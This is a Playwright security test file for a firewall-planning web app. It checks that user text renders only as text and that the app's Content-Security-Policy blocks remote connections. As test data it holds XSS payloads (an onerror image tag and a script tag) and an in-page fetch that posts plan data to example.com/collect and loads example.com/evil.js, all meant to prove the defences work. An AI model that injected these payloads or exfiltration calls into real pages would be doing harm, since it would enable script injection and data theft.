// Security: user text is never HTML, and the Content-Security-Policy of the built app lets no
// remote script run and no connection leave the page.
import { expect, test } from '@playwright/test';
import { addBotnetKey, field, openEmpty, renamePlan } from './helpers';

const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>window.__xss = 1; alert(2)</script>';

test.describe('security', () => {
  test('plan names, key ids and notes render as text: no element is created, no dialog fires', async ({ page }) => {
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await openEmpty(page);
    await renamePlan(page, IMG);
    await page.getByLabel('Find model').fill('5545');
    await field(page, 'deployment.units[0].model', 'select').selectOption('asa-5545-x');
    await addBotnetKey(page);
    const key = page.getByTestId('time-key-key-1');
    await key.getByLabel('Note').fill(SCRIPT);
    // A key id the engine refuses: its message quotes the typed text, as text.
    await key.getByLabel('Key id').fill('<script>');
    await expect(key.locator('.field-error')).toContainText('"<script>"');

    // An imported plan carrying the same text in its name, a note and an event-free key.
    const exported = await page.evaluate(() => localStorage.getItem(Object.keys(localStorage).find((k) => k.startsWith('asa-planner/plan/')) ?? ''));
    const plan = JSON.parse(exported ?? '{}').plan;
    plan.name = `${IMG} imported`;
    await page.getByTestId('import-file').setInputFiles({ name: `${IMG}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(plan)) });
    await expect(page.getByTestId('notice')).toContainText(`Imported “${IMG} imported” from “${IMG}.json”`);
    await expect(page.getByTestId('plan-switcher').locator('option')).toHaveText([IMG, `${IMG} imported`]);
    await expect(page.getByLabel('Name', { exact: true })).toHaveValue(`${IMG} imported`);
    await expect(page.getByTestId('time-key-key-1').getByLabel('Note')).toHaveValue(SCRIPT);

    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await page.evaluate(() => [...document.scripts].filter((s) => s.textContent?.includes('__xss')).length)).toBe(0);
    // Shown as text: the notice's title holds the characters and no element.
    const title = page.getByTestId('notice').locator('strong');
    await expect(title).toBeVisible();
    expect(await title.evaluate((el) => ({ text: el.textContent, elements: el.children.length }))).toEqual({ text: `Imported “${IMG} imported” from “${IMG}.json”`, elements: 0 });
  });

  test('the built app’s CSP allows scripts and connections only from its own origin', async ({ request }) => {
    const html = await (await request.get('/')).text();
    const csp = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html)?.[1];
    expect(csp, 'the built index.html has a CSP meta tag').toBeTruthy();
    const directives = new Map(
      (csp ?? '')
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...sources]) => [name!, sources]),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    for (const [name, sources] of directives) {
      for (const source of sources) expect(source, `${name} names no remote host or wildcard`).toMatch(/^('self'|'none'|data:)$/);
    }
    // No inline script for the policy to have to allow.
    for (const tag of html.match(/<script\b[^>]*>/g) ?? []) expect(tag).toMatch(/\ssrc="\//);
  });

  test('the browser refuses a remote fetch or script from the page, before any request is made', async ({ page }) => {
    const outside: string[] = [];
    await page.route(
      (url) => url.hostname !== 'localhost',
      (route) => {
        outside.push(route.request().url());
        return route.abort();
      },
    );
    await openEmpty(page);
    const result = await page.evaluate(async () => {
      const violations: { directive: string; blocked: string }[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
      let fetchError = '';
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'plan' });
      } catch (err) {
        fetchError = String(err);
      }
      const script = document.createElement('script');
      script.src = 'https://example.com/evil.js';
      document.head.append(script);
      const img = new Image();
      img.src = 'https://example.com/pixel.png';
      document.body.append(img);
      await new Promise((r) => setTimeout(r, 500));
      script.remove();
      img.remove();
      return { fetchError, violations };
    });
    expect(result.fetchError).toMatch(/TypeError/);
    const byDirective = Object.fromEntries(result.violations.map((v) => [v.directive, v.blocked]));
    expect(byDirective['connect-src']).toBe('https://example.com/collect');
    expect(byDirective['script-src-elem']).toBe('https://example.com/evil.js');
    expect(byDirective['img-src']).toBe('https://example.com/pixel.png');
    // The route would have caught any request that left the page: the CSP stopped them first.
    expect(outside).toEqual([]);
  });
});
